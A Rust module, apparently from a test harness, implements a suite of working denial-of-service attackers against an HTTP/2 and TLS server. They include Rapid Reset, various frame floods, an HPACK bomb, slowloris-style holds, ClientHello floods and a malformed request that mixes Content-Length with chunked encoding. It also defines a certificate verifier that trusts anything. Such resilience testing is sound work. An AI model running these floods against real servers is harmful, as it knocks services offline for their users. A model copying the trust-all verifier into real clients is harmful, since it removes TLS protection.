//! The attackers. Each does one thing, on several threads, until it is killed; whoever is put out comes again at once.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::time::Duration;

use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use rustls::{ClientConfig, ClientConnection, DigitallySignedStruct, SignatureScheme};

use crate::bursts;
use crate::support::frames::{END_STREAM, PREFACE, headers, pseudo, settings};

/// Threads of an attacker that does something; on one core more of them would do no more.
const THREADS: usize = 4;
/// Connections of one that does nothing.
const IDLERS: usize = 1000;

/// An attack.
pub struct Attack {
    /// What it is called.
    pub name: &'static str,
    how: How,
}

enum How {
    /// HTTP/2 frames, in bursts.
    Frames(fn(u32) -> Vec<u8>),
    /// Something on a new connection, again and again.
    Again(fn(SocketAddr, SocketAddr)),
    /// Many connections that are held.
    Hold(fn(SocketAddr, SocketAddr) -> Option<Held>),
}

/// A connection that is held, and what it says now and then.
struct Held {
    stream: TcpStream,
    says: &'static [u8],
}

/// All of them.
pub const ATTACKS: &[Attack] = &[
    Attack { name: "rapid_reset", how: How::Frames(bursts::rapid_reset) },
    Attack { name: "made_you_reset", how: How::Frames(bursts::made_you_reset) },
    Attack { name: "streams_over_max", how: How::Frames(bursts::over_max_streams) },
    Attack { name: "settings", how: How::Frames(bursts::settings_flood) },
    Attack { name: "pings", how: How::Frames(bursts::ping_flood) },
    Attack { name: "priorities", how: How::Frames(bursts::priority_flood) },
    Attack { name: "empty_data", how: How::Frames(bursts::empty_data) },
    Attack { name: "tiny_data", how: How::Frames(bursts::tiny_data) },
    Attack { name: "window_updates", how: How::Frames(bursts::window_updates) },
    Attack { name: "continuations", how: How::Frames(bursts::continuations) },
    Attack { name: "hpack_bomb", how: How::Frames(bursts::bomb) },
    Attack { name: "cookie_crumbs", how: How::Frames(bursts::crumbs) },
    Attack { name: "slow_heads", how: How::Hold(slow_head) },
    Attack { name: "slow_bodies", how: How::Hold(slow_body) },
    Attack { name: "slow_readers", how: How::Hold(slow_reader) },
    Attack { name: "zero_windows", how: How::Hold(zero_window) },
    Attack { name: "silent", how: How::Hold(silent) },
    Attack { name: "tls_never_ends", how: How::Hold(tls_never_ends) },
    Attack { name: "tls_hellos", how: How::Again(tls_hello) },
    Attack { name: "new_connections", how: How::Again(new_connection) },
    Attack { name: "malformed", how: How::Again(malformed) },
];

impl Attack {
    /// Whether each connection ends with an answer.
    pub fn waits_for_answers(&self) -> bool {
        matches!(self.how, How::Again(_))
    }

    /// Attacks, until the process is killed.
    pub fn go(&self, plain: SocketAddr, tls: SocketAddr) -> ! {
        let threads: Vec<_> = (0..THREADS)
            .map(|_| match self.how {
                How::Frames(burst) => std::thread::spawn(move || forever(|| drop(flood(plain, burst)))),
                How::Again(one) => std::thread::spawn(move || forever(|| one(plain, tls))),
                How::Hold(one) => std::thread::spawn(move || hold(|| one(plain, tls))),
            })
            .collect();
        for thread in threads {
            let _ = thread.join();
        }
        std::process::exit(1)
    }
}

fn forever(mut one: impl FnMut()) {
    loop {
        one();
    }
}

fn connect(address: SocketAddr) -> Option<TcpStream> {
    let stream = TcpStream::connect_timeout(&address, Duration::from_secs(2)).ok();
    if stream.is_none() {
        // There may be no ports left.
        std::thread::sleep(Duration::from_millis(10));
    }
    stream
}

/// Bursts until the other side has had enough.
fn flood(address: SocketAddr, burst: fn(u32) -> Vec<u8>) -> std::io::Result<()> {
    let Some(mut stream) = connect(address) else { return Ok(()) };
    stream.write_all(&[PREFACE, &settings(&[(1, 0)])].concat())?;
    stream.set_write_timeout(Some(Duration::from_millis(200)))?;
    let mut piece = vec![0; 1 << 16];
    for round in 0..10_000 {
        stream.write_all(&burst(round))?;
        stream.set_nonblocking(true)?;
        let end = matches!(stream.read(&mut piece), Ok(0));
        stream.set_nonblocking(false)?;
        if end {
            break;
        }
    }
    Ok(())
}

/// As many as the attacker wants, each speaking a little every second, and made anew where they were closed.
fn hold(one: impl Fn() -> Option<Held>) {
    let mut held: Vec<Held> = Vec::new();
    loop {
        let mut made = 0;
        while held.len() < IDLERS / THREADS && made < 200 {
            made += 1;
            held.extend(one());
        }
        held.retain_mut(|one| one.is_there());
        std::thread::sleep(Duration::from_millis(if made < 200 { 500 } else { 10 }));
    }
}

impl Held {
    fn is_there(&mut self) -> bool {
        let gone = self.stream.set_nonblocking(true).is_err()
            || !self.says.is_empty() && self.stream.write_all(self.says).is_err()
            || self.says.is_empty() && matches!(self.stream.peek(&mut [0; 1]), Ok(0));
        !gone
    }
}

fn saying(address: SocketAddr, first: &[u8], says: &'static [u8]) -> Option<Held> {
    let mut stream = connect(address)?;
    stream.write_all(first).ok()?;
    Some(Held { stream, says })
}

fn slow_head(plain: SocketAddr, _: SocketAddr) -> Option<Held> {
    saying(plain, b"GET / HTTP/1.1\r\nHost: a.example\r\nX-Slow: ", b"x")
}

fn slow_body(plain: SocketAddr, _: SocketAddr) -> Option<Held> {
    saying(plain, b"POST / HTTP/1.1\r\nHost: a.example\r\nContent-Length: 1000000\r\n\r\n", b"x")
}

/// Nothing of four mebibytes is read.
fn slow_reader(plain: SocketAddr, _: SocketAddr) -> Option<Held> {
    saying(plain, b"GET /large HTTP/1.1\r\nHost: a.example\r\n\r\n", b"")
}

/// A hundred streams without a window.
fn zero_window(plain: SocketAddr, _: SocketAddr) -> Option<Held> {
    let asks = (0..100).flat_map(|n| headers(2 * n + 1, END_STREAM, pseudo("GET", "/large")));
    let first = [PREFACE, &settings(&[(1, 0), (4, 0)]), &asks.collect::<Vec<_>>()].concat();
    saying(plain, &first, b"")
}

fn silent(plain: SocketAddr, _: SocketAddr) -> Option<Held> {
    saying(plain, b"", b"")
}

/// The first octets of a ClientHello that never comes.
fn tls_never_ends(_: SocketAddr, tls: SocketAddr) -> Option<Held> {
    saying(tls, &[22, 3, 1, 2, 0, 1, 0, 1, 252, 3], b"")
}

/// A whole ClientHello, which the server has to work for; its answer is not even read.
fn tls_hello(_: SocketAddr, tls: SocketAddr) {
    thread_local!(static HELLO: Vec<u8> = hello());
    let Some(mut stream) = connect(tls) else { return };
    let _ = HELLO.with(|hello| stream.write_all(hello));
    let _ = stream.set_read_timeout(Some(Duration::from_millis(50)));
    let _ = stream.read(&mut [0; 1]);
}

fn hello() -> Vec<u8> {
    let mut config =
        ClientConfig::builder().dangerous().with_custom_certificate_verifier(Arc::new(Anybody)).with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let name = ServerName::try_from("localhost").unwrap();
    let mut hello = Vec::new();
    ClientConnection::new(Arc::new(config), name).unwrap().write_tls(&mut hello).unwrap();
    hello
}

fn new_connection(plain: SocketAddr, _: SocketAddr) {
    let Some(mut stream) = connect(plain) else { return };
    let _ = stream.write_all(b"GET / HTTP/1.1\r\nHost: a.example\r\nConnection: close\r\n\r\n");
    let _ = stream.read(&mut [0; 4096]);
}

fn malformed(plain: SocketAddr, _: SocketAddr) {
    let Some(mut stream) = connect(plain) else { return };
    let _ = stream.write_all(
        b"POST / HTTP/1.1\r\nHost: a.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    );
    let _ = stream.read(&mut [0; 4096]);
}

/// Believes everybody; only the first flight is needed.
#[derive(Debug)]
struct Anybody;

impl ServerCertVerifier for Anybody {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        vec![SignatureScheme::ECDSA_NISTP256_SHA256, SignatureScheme::ED25519, SignatureScheme::RSA_PSS_SHA256]
    }
}
